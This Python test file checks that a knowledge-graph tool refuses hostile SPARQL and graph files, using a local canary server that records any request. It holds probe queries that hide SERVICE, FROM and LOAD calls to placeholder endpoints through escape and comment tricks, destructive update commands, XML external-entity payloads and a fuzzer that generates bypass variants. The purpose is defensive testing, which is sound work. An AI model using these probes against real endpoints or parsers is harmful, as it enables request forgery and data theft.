"""Hostile queries and graph files against a canary HTTP server: nothing may reach it.

The canary is a real HTTP server started here that records every request and answers
like a SPARQL endpoint (and a JSON-LD context server), so a leak would also succeed.
Each probe is first shown to be live: unvetted Oxigraph (or rdflib's own JSON-LD parser)
does call the canary with it. Then every way in — ``kg.query.run_query`` in-process,
``kg query -e`` and ``kg query FILE.rq`` on both engines, export, render, stats — must
refuse it with one line, and the canary must stay silent.
"""

from __future__ import annotations

import json
import socket
import subprocess
import sys
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pyoxigraph
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from rdflib import Graph

from kg import sandbox
from kg.cli import main
from kg.graph import serialize_turtle
from kg.query import PROJECT_PREFIXES, QueryError, run_query
from tests.conftest import ROOT
from tests.test_query import GRAPH, STORE

ENGINES = ["oxigraph", "rdflib"]


class Canary:
    """A local HTTP server that records every request it gets."""

    def __init__(self) -> None:
        requests: list[tuple[str, str]] = []

        class Handler(BaseHTTPRequestHandler):
            def _answer(self) -> None:
                length = int(self.headers.get("Content-Length") or 0)
                self.rfile.read(length)
                requests.append((self.command, self.path))
                if self.path.endswith(".jsonld"):
                    body = json.dumps({"@context": {"@vocab": "http://canary.example/"}}).encode()
                    kind = "application/ld+json"
                elif self.path.endswith(".ttl"):
                    body, kind = b"<http://canary.example/s> <http://canary.example/p> 'leak' .", "text/turtle"
                elif self.path.endswith(".ent"):
                    body, kind = b"leaked entity", "text/plain"
                else:
                    remote = {"x": {"type": "literal", "value": "remote"}}
                    answer = {"head": {"vars": ["x"]}, "results": {"bindings": [remote]}}
                    body, kind = json.dumps(answer).encode(), "application/sparql-results+json"
                self.send_response(200)
                self.send_header("Content-Type", kind)
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            do_GET = do_POST = do_HEAD = _answer

            def log_message(self, *args: object) -> None:
                pass

        self.requests = requests
        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)
        self.thread.start()

    @property
    def base(self) -> str:
        return f"http://127.0.0.1:{self.server.server_port}"

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture(scope="module")
def server() -> Iterator[Canary]:
    canary = Canary()
    yield canary
    canary.close()


@pytest.fixture
def canary(server: Canary) -> Iterator[Canary]:
    server.requests.clear()
    yield server


@pytest.fixture(scope="module")
def graph_file(tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("graph") / "graph.ttl"
    path.write_bytes(serialize_turtle(GRAPH))
    return path


def fill(template: str, canary: Canary) -> str:
    return template.replace("URL", f"{canary.base}/sparql").replace("HOST", canary.base)


# --- the probes -----------------------------------------------------------------------------

# (id, query with URL for the canary's endpoint, what the refusal names, live on bare Oxigraph)
SERVICE_ = "SERVICE"
HOSTILE: list[tuple[str, str, str, bool]] = [
    # The bypasses of the issue.
    ("pname-escape-hash", r"PREFIX a: <urn:x:> SELECT * WHERE { BIND(a:b\# AS ?k) SERVICE <URL> { ?x ?y ?z } }",
     SERVICE_, True),
    ("pname-escape-quote", r"PREFIX a: <urn:x:> SELECT * WHERE { BIND(a:b\' AS ?k) SERVICE <URL> { ?x ?y ?z } }",
     SERVICE_, True),
    ("quote-escape-triple-term",
     r"PREFIX a: <urn:x:> SELECT * WHERE { BIND(a:b\' AS ?k) BIND(<<( <urn:s> <urn:p> <urn:o> )>> AS ?t) "
     r"SERVICE <URL> { ?x ?y ?z } }", SERVICE_, True),
    ("quote-escape-lateral",
     r"PREFIX a: <urn:x:> SELECT * WHERE { BIND(a:b\' AS ?k) LATERAL { SERVICE <URL> { ?x ?y ?z } } }",
     SERVICE_, True),
    ("exists-on-headlines",
     "SELECT ?h WHERE { ?a schema:headline ?h FILTER EXISTS { SERVICE <URL> { ?x ?y ?h } } }", SERVICE_, True),
    ("exists-if-private-text",
     'SELECT ?h WHERE { ?a schema:headline ?h '
     'FILTER (CONTAINS(?h, "Реформ") && EXISTS { SERVICE <URL> { ?x ?y ?z } }) }',
     SERVICE_, True),
    # Every place a group pattern can hide.
    ("not-exists", "SELECT * WHERE { ?s ?p ?o FILTER NOT EXISTS { SERVICE <URL> { ?x ?y ?z } } }", SERVICE_, True),
    ("subquery", "SELECT * WHERE { { SELECT * WHERE { SERVICE <URL> { ?x ?y ?z } } } }", SERVICE_, True),
    ("optional", "SELECT * WHERE { ?s ?p ?o OPTIONAL { SERVICE <URL> { ?x ?y ?z } } }", SERVICE_, True),
    ("union", "SELECT * WHERE { { ?s ?p ?o } UNION { SERVICE <URL> { ?x ?y ?z } } }", SERVICE_, True),
    ("minus", "SELECT * WHERE { ?s ?p ?o MINUS { SERVICE <URL> { ?x ?y ?z } } }", SERVICE_, True),
    ("graph", "SELECT * WHERE { GRAPH ?g { SERVICE <URL> { ?x ?y ?z } } }", SERVICE_, True),
    ("select-expression", "SELECT (EXISTS { SERVICE <URL> { ?x ?y ?z } } AS ?e) WHERE {}", SERVICE_, True),
    ("having", "SELECT ?s WHERE { ?s ?p ?o } GROUP BY ?s HAVING (EXISTS { SERVICE <URL> { ?x ?y ?z } })",
     SERVICE_, True),
    ("order-by", "SELECT ?s WHERE { ?s ?p ?o } ORDER BY (EXISTS { SERVICE <URL> { ?x ?y ?z } })", SERVICE_, True),
    ("construct", "CONSTRUCT { ?x ?y ?z } WHERE { SERVICE <URL> { ?x ?y ?z } }", SERVICE_, True),
    ("ask", "ASK { SERVICE <URL> { ?x ?y ?z } }", SERVICE_, True),
    ("describe", "DESCRIBE ?x WHERE { SERVICE <URL> { ?x ?y ?z } }", SERVICE_, True),
    # Every spelling of the endpoint and the keyword.
    ("base-relative", "BASE <HOST/> SELECT * WHERE { SERVICE <sparql> { ?x ?y ?z } }", SERVICE_, True),
    ("prefixed-endpoint", "PREFIX c: <HOST/> SELECT * WHERE { SERVICE c:sparql { ?x ?y ?z } }", SERVICE_, True),
    ("values-bound", "SELECT * WHERE { VALUES ?u { <URL> } SERVICE ?u { ?x ?y ?z } }", SERVICE_, False),
    ("bind-bound", "SELECT * WHERE { BIND(<URL> AS ?u) SERVICE ?u { ?x ?y ?z } }", SERVICE_, False),
    ("comments-around", "SELECT * WHERE { SERVICE # FROM a comment\n <URL> # another\n { ?x ?y ?z } }", SERVICE_, True),
    ("lower-case-silent", "select * where { service silent <URL> { ?x ?y ?z } }", SERVICE_, True),
    ("tabs-and-newlines", "SELECT\t*\nWHERE\n{\nSERVICE\n\t<URL>\n{ ?x ?y ?z }\n}", SERVICE_, True),
    ("operator-like-iri", "SELECT * WHERE { ?s ?p ?o FILTER(1<2&&'>' != '') SERVICE <URL> { ?x ?y ?z } }",
     SERVICE_, True),
    ("string-escapes", r'SELECT * WHERE { BIND("\"#" AS ?k) SERVICE <URL> { ?x ?y ?z } }', SERVICE_, True),
    ("long-string", 'SELECT * WHERE { BIND("""a "# " b""" AS ?k) SERVICE <URL> { ?x ?y ?z } }', SERVICE_, True),
    ("codepoint-escape-in-iri", r"SELECT * WHERE { SERVICE <HOST/sparq\u006C> { ?x ?y ?z } }", "codepoint", True),
    ("codepoint-escape-keyword", r"SELECT * WHERE { \u0053ERVICE <URL> { ?x ?y ?z } }", "codepoint", False),
    # Remote datasets, loads and updates.
    ("from", "SELECT * FROM <URL> WHERE { ?s ?p ?o }", "FROM", False),
    ("from-named", "SELECT * FROM NAMED <URL> WHERE { GRAPH ?g { ?s ?p ?o } }", "FROM", False),
    ("from-prefixed", "PREFIX c: <HOST/> SELECT * FROM c:data.ttl WHERE { ?s ?p ?o }", "FROM", False),
    ("from-base", "BASE <HOST/> ASK FROM <data.ttl> { ?s ?p ?o }", "FROM", False),
    ("load", "LOAD <HOST/data.ttl>", "LOAD", False),
    ("load-silent-into", "LOAD SILENT <HOST/data.ttl> INTO GRAPH <urn:g>", "LOAD", False),
    ("query-then-load", "SELECT * WHERE { ?s ?p ?o } ;\nLOAD <HOST/data.ttl>", "LOAD", False),
    ("insert-where-service", "INSERT { ?x ?y ?z } WHERE { SERVICE <URL> { ?x ?y ?z } }", "SERVICE|INSERT", False),
    ("insert-data", "INSERT DATA { <urn:a> <urn:b> <urn:c> }", "INSERT", False),
    ("delete-where", "DELETE WHERE { ?s ?p ?o }", "DELETE", False),
    ("clear", "CLEAR ALL", "CLEAR", False),
]  # fmt: skip
IDS = [h[0] for h in HOSTILE]
LIVE = [h for h in HOSTILE if h[3]]


def bare_oxigraph(sparql: str) -> None:
    """Run a query on Oxigraph with nothing in between, as the project did before vetting."""
    answer = STORE.oxigraph.query(sparql, use_default_graph_as_union=True, prefixes=PROJECT_PREFIXES)
    if not isinstance(answer, pyoxigraph.QueryBoolean):
        list(answer)


def finish(messages: Iterator[object]) -> tuple[list[object], object]:
    """What a worker sent, and what it returned."""
    sent = []
    while True:
        try:
            sent.append(next(messages))
        except StopIteration as stop:
            return sent, stop.value


@pytest.mark.parametrize(("name", "template", "keyword", "live"), LIVE, ids=[h[0] for h in LIVE])
def test_each_live_probe_reaches_the_canary_without_vetting(canary, name, template, keyword, live) -> None:
    """The probes are real: bare Oxigraph sends them to the canary."""
    bare_oxigraph(fill(template, canary))
    assert canary.requests, name


def assert_refused(message: str, keyword: str) -> None:
    assert "\n" not in message.strip()
    assert any(k.lower() in message.lower() for k in keyword.split("|")), message


@pytest.mark.parametrize("engine", ENGINES)
@pytest.mark.parametrize(("name", "template", "keyword", "live"), HOSTILE, ids=IDS)
def test_run_query_refuses_every_probe(canary, engine, name, template, keyword, live) -> None:
    """In-process, with no worker around it: the vetting alone holds."""
    with pytest.raises(QueryError) as info:
        run_query(STORE if engine == "oxigraph" else GRAPH, fill(template, canary), engine=engine)
    assert_refused(str(info.value), keyword)
    assert canary.requests == []


@pytest.mark.parametrize("engine", ENGINES)
@pytest.mark.parametrize("via", ["-e", "rq"])
@pytest.mark.parametrize(("name", "template", "keyword", "live"), HOSTILE, ids=IDS)
def test_kg_query_refuses_every_probe(canary, capsys, graph_file, tmp_path, engine, via, name, template, keyword, live):
    sparql = fill(template, canary)
    if via == "rq":
        (tmp_path / "q.rq").write_text(sparql, encoding="utf-8")
        source = [str(tmp_path / "q.rq")]
    else:
        source = ["-e", sparql]
    code = main(["query", str(graph_file), *source, "--engine", engine])
    out, err = capsys.readouterr()
    assert code == 2
    assert out == ""
    assert err.startswith("error: ") and err.count("\n") == 1
    assert_refused(err, keyword)
    assert canary.requests == []


ISSUE_PROBES = [h for h in HOSTILE if h[0] in ("pname-escape-hash", "quote-escape-triple-term", "quote-escape-lateral")]


@pytest.mark.parametrize("via", ["-e", "rq"])
@pytest.mark.parametrize(("name", "template", "keyword", "live"), ISSUE_PROBES, ids=[h[0] for h in ISSUE_PROBES])
def test_the_issue_probes_in_a_real_kg_process(canary, graph_file, tmp_path, via, name, template, keyword, live):
    sparql = fill(template, canary)
    (tmp_path / "q.rq").write_text(sparql, encoding="utf-8")
    source = [str(tmp_path / "q.rq")] if via == "rq" else ["-e", sparql]
    proc = subprocess.run(
        [sys.executable, "-m", "kg", "query", str(graph_file), *source],
        capture_output=True,
        text=True,
        timeout=120,
        cwd=ROOT,
    )
    assert proc.returncode == 2, proc.stderr
    assert proc.stdout == ""
    assert proc.stderr.startswith("error: SERVICE is not allowed") and proc.stderr.count("\n") == 1
    assert canary.requests == []


# --- fuzzing: SERVICE, LOAD and FROM at random places of generated SPARQL --------------------

VARS = ["?s", "?p", "?o", "?x", "?h", "?a"]
# Patterns, and filters that are always true but spell their terms the ways that fooled the old
# scanner: local-name escapes (a: is declared by every generated prologue), quotes and '#' in strings.
TRIPLES = [
    "?s ?p ?o",
    "?a schema:headline ?h",
    "?s a schema:Claim",
    "?x ?p ?o",
    "FILTER (a:b\\# != a:c\\')",
    "FILTER (a:x\\-y != <urn:x:>)",
    "FILTER ('\\'#' != \"\\\"#\")",
    "FILTER (\"\"\"a \"# b\"\"\" != '''c '# d''')",
]


def keyword(draw: st.DrawFn, word: str) -> str:
    return "".join(c.upper() if draw(st.booleans()) else c.lower() for c in word)


def gap(draw: st.DrawFn) -> str:
    return draw(st.sampled_from([" ", "\n", "\t", " # a comment SERVICE FROM\n", "  ", " #\n "]))


@st.composite
def endpoint(draw: st.DrawFn) -> tuple[str, str]:
    """(prologue, endpoint) in one of its spellings."""
    form = draw(st.sampled_from(["iri", "prefixed", "base"]))
    prologue = "PREFIX a: <urn:x:>\n"
    if form == "prefixed":
        return prologue + "PREFIX c: <HOST/>\n", "c:sparql"
    if form == "base":
        return prologue + "BASE <HOST/>\n", "<sparql>"
    return prologue, "<URL>"


@st.composite
def group(draw: st.DrawFn, depth: int, service: str | None) -> str:
    """A group graph pattern; ``service`` is put into this group or one nested in it."""
    parts = [draw(st.sampled_from(TRIPLES)) + " ." for _ in range(draw(st.integers(1, 3)))]
    nested_here = service is not None and (depth == 0 or draw(st.booleans()))
    inner = None if nested_here else service
    if depth > 0:
        wrapper = draw(st.sampled_from(["optional", "union", "exists", "not-exists", "subquery", "group", "bind"]))
        child = draw(group(depth - 1, inner))
        parts.append(
            {
                "optional": f"OPTIONAL {child}",
                "union": f"{{ ?s ?p ?o }} UNION {child}",
                "exists": f"FILTER EXISTS {child}",
                "not-exists": f"FILTER NOT EXISTS {child}",
                "subquery": f"{{ SELECT * WHERE {child} }}",
                "group": child,
                "bind": f"BIND(EXISTS {child} AS ?e{depth})",
            }[wrapper]
        )
    elif inner is not None:
        nested_here = True
    if nested_here:
        parts.insert(draw(st.integers(0, len(parts))), service)
    return "{ " + " ".join(parts) + " }"


@st.composite
def with_service(draw: st.DrawFn, live_only: bool = False) -> str:
    prologue, iri = draw(endpoint())
    silent = "" if live_only else draw(st.sampled_from(["", "SILENT "]))
    service = f"{keyword(draw, 'service')}{gap(draw)}{silent}{iri}{gap(draw)}{{ ?x ?y ?z }}"
    if live_only:
        body = draw(group(draw(st.integers(0, 2)), service).filter(lambda g: "NOT EXISTS" not in g))
    else:
        body = draw(group(draw(st.integers(0, 3)), service))
    forms = ["SELECT *", "SELECT ?s", "ASK", "CONSTRUCT { ?s ?p ?o }"]
    form = "SELECT *" if live_only else draw(st.sampled_from(forms))
    return f"{prologue}{form} WHERE {body}"


@st.composite
def with_from_or_load(draw: st.DrawFn) -> str:
    prologue, iri = draw(endpoint())
    body = draw(group(draw(st.integers(0, 2)), None))
    kind = draw(st.sampled_from(["from", "from-named", "load", "load-after"]))
    if kind == "from":
        return f"{prologue}SELECT *{gap(draw)}{keyword(draw, 'from')}{gap(draw)}{iri} WHERE {body}"
    if kind == "from-named":
        return f"{prologue}SELECT * {keyword(draw, 'from')} {keyword(draw, 'named')}{gap(draw)}{iri} WHERE {body}"
    if kind == "load":
        return f"{prologue}{keyword(draw, 'load')}{gap(draw)}{iri}"
    return f"{prologue}SELECT * WHERE {body} ;{gap(draw)}{keyword(draw, 'load')} {iri}"


@st.composite
def spliced(draw: st.DrawFn) -> str:
    """SERVICE, LOAD or FROM spliced between two tokens of a valid query, wherever they land."""
    text = "PREFIX a: <urn:x:>\nSELECT * WHERE " + draw(group(draw(st.integers(0, 2)), None))
    # Any space before a pattern, a keyword or a brace (never one inside a string literal).
    cuts = [i for i, c in enumerate(text) if c == " " and text[i + 1] in "{}?FOUBSW"]
    at = draw(st.sampled_from(cuts))
    insert = draw(st.sampled_from([" SERVICE <URL> { ?x ?y ?z } ", " FROM <URL> ", " LOAD <URL> ", " SERVICE <URL> "]))
    return text[:at] + insert + text[at:]


FUZZ = settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])


@FUZZ
@given(sparql=st.one_of(with_service(), with_from_or_load(), spliced()))
def test_fuzzed_queries_are_refused_and_the_canary_hears_nothing(canary, sparql: str) -> None:
    sparql = fill(sparql, canary)
    for engine in ENGINES:
        with pytest.raises(QueryError) as info:
            run_query(STORE if engine == "oxigraph" else GRAPH, sparql, engine=engine)
        assert "\n" not in str(info.value)
    assert canary.requests == []


@settings(max_examples=20, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(sparql=with_service(live_only=True))
def test_fuzz_generator_is_live_on_bare_oxigraph(canary, sparql: str) -> None:
    """What the fuzzer makes does reach the canary when nothing vets it."""
    canary.requests.clear()
    bare_oxigraph(fill(sparql, canary))
    assert canary.requests, sparql


# --- the second wall: the worker cannot open a socket ----------------------------------------

needs_seccomp = pytest.mark.skipif(
    not (sys.platform == "linux" and sandbox.can_isolate()), reason="the socket filter is Linux-only"
)


def _connect_to(url: str):
    def target(send: sandbox.Send) -> str:
        host, port = url.split("//")[1].split(":")
        try:
            socket.create_connection((host, int(port)), timeout=2)
        except OSError as exc:
            return f"{type(exc).__name__}: {exc}"
        return "connected"

    return target


@needs_seccomp
def test_the_worker_cannot_open_an_inet_socket(canary) -> None:
    assert finish(sandbox.run(_connect_to(canary.base))) == ([], "PermissionError: [Errno 13] Permission denied")
    assert canary.requests == []
    assert _connect_to(canary.base)(lambda _: None) == "connected"  # outside the worker it connects


@needs_seccomp
def test_unvetted_oxigraph_service_in_the_worker_reaches_nothing(canary) -> None:
    """Even a query that skipped the vetting cannot call out from the worker."""

    sparql = fill("SELECT * WHERE { SERVICE <URL> { ?x ?y ?z } }", canary)

    def target(send: sandbox.Send) -> str:
        try:
            bare_oxigraph(sparql)
        except Exception as exc:
            return f"failed: {type(exc).__name__}: {exc}"
        return "ran"

    _, outcome = finish(sandbox.run(target))
    assert str(outcome).startswith("failed:") and "ermission denied" in str(outcome)
    assert canary.requests == []
    bare_oxigraph(sparql)  # outside the worker it does reach the canary: the wall is what stopped it
    assert canary.requests


@needs_seccomp
def test_the_worker_keeps_unix_pipes() -> None:
    def target(send: sandbox.Send) -> int:
        a, b = socket.socketpair()
        a.sendall(b"ok")
        send(b.recv(2))
        return 7

    assert finish(sandbox.run(target)) == ([b"ok"], 7)


# --- graph files: no loader fetches -----------------------------------------------------------

REMOTE_FILES = {
    "context.jsonld": '{"@context": "HOST/context.jsonld",\n "@id": "urn:a", "p": "v"}',
    "context-array.jsonld": '{"@context": ["HOST/context.jsonld", {"q": "urn:q"}],\n "@id": "urn:a", "p": "v"}',
    "import.jsonld": '{"@context": {"@import": "HOST/context.jsonld", "q": "urn:q"},\n "@id": "urn:a", "q": "v"}',
    "nested.jsonld": '{"@context": {"@vocab": "urn:v/"}, "@id": "urn:a",\n'
    ' "p": {"@context": "HOST/context.jsonld", "x": 1}}',
    "entity.rdf": '<?xml version="1.0"?>\n<!DOCTYPE r [<!ENTITY e SYSTEM "HOST/x.ent">]>\n'
    '<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">\n'
    '<rdf:Description rdf:about="urn:a"><rdf:value>&e;</rdf:value></rdf:Description></rdf:RDF>\n',
    "parameter-entity.rdf": '<?xml version="1.0"?>\n<!DOCTYPE r [<!ENTITY % p SYSTEM "HOST/x.ent"> %p;]>\n'
    '<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"/>\n',
}
# Files that load, and whose remote references must stay mere IRIs.
HARMLESS_FILES = {
    "imports.ttl": "@prefix owl: <http://www.w3.org/2002/07/owl#> .\n"
    "<urn:o> a owl:Ontology ; owl:imports <HOST/onto.ttl> .",
    "base.trig": "@base <HOST/> .\n<g> { <s> <p> <o> . }",
    "imports.jsonld": '{"@id": "urn:o", "http://www.w3.org/2002/07/owl#imports": {"@id": "HOST/onto.ttl"}}',
    "public-dtd.rdf": '<?xml version="1.0"?>\n<!DOCTYPE rdf:RDF PUBLIC "-//x//y" "HOST/x.dtd">\n'
    '<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"/>\n',
}


def write_file(tmp_path: Path, canary: Canary, name: str, text: str) -> Path:
    path = tmp_path / name
    path.write_text(text.replace("HOST", canary.base), encoding="utf-8")
    return path


def test_rdflib_own_jsonld_parser_would_fetch_the_context(canary, tmp_path) -> None:
    """The JSON-LD probe is live: rdflib's parser, used directly, calls the canary."""
    path = write_file(tmp_path, canary, "context.jsonld", REMOTE_FILES["context.jsonld"])
    Graph().parse(path, format="json-ld")
    assert canary.requests


COMMANDS = [
    ("query-oxigraph", ["query", "{f}", "-e", "ASK {}"]),
    ("query-rdflib", ["query", "{f}", "-e", "ASK {}", "--engine", "rdflib"]),
    ("export", ["export", "{f}", "--format", "nt", "-o", "{out}/g.nt"]),
    ("render", ["render", "{f}", "-o", "{out}/g.html"]),
    ("stats", ["stats", "{f}"]),
]


@pytest.mark.parametrize("name", sorted(REMOTE_FILES))
@pytest.mark.parametrize(("command", "argv"), COMMANDS, ids=[c[0] for c in COMMANDS])
def test_no_command_fetches_what_a_graph_file_points_to(canary, capsys, tmp_path, name, command, argv) -> None:
    path = write_file(tmp_path, canary, name, REMOTE_FILES[name])
    code = main([a.replace("{f}", str(path)).replace("{out}", str(tmp_path)) for a in argv])
    _, err = capsys.readouterr()
    assert code == 2
    assert err.startswith(f"error: {path}: invalid ") and err.count("\n") == 1, err
    assert "line" in err
    assert canary.requests == []
    assert not (tmp_path / "g.nt").exists() and not (tmp_path / "g.html").exists()


@pytest.mark.parametrize("name", sorted(HARMLESS_FILES))
@pytest.mark.parametrize(("command", "argv"), COMMANDS, ids=[c[0] for c in COMMANDS])
def test_remote_iris_in_a_graph_file_stay_iris(canary, capsys, tmp_path, name, command, argv) -> None:
    path = write_file(tmp_path, canary, name, HARMLESS_FILES[name])
    code = main([a.replace("{f}", str(path)).replace("{out}", str(tmp_path)) for a in argv])
    capsys.readouterr()
    assert code == 0
    assert canary.requests == []


@pytest.mark.parametrize("name", sorted(REMOTE_FILES))
def test_the_python_api_does_not_fetch_either(canary, tmp_path, name) -> None:
    import kg
    from kg.store import GraphFileError, load_rdflib, open_store

    path = write_file(tmp_path, canary, name, REMOTE_FILES[name])
    for call in (
        lambda: kg.query(path, "ASK {}"),
        lambda: kg.query(path, "ASK {}", engine="rdflib"),
        lambda: kg.export(path, "nt", tmp_path / "g.nt"),
        lambda: kg.render(path, tmp_path / "g.html"),
        lambda: load_rdflib(path),
        lambda: open_store(path),
    ):
        with pytest.raises(GraphFileError, match=rf"^{path}: invalid .* line \d+"):
            call()
    assert canary.requests == []
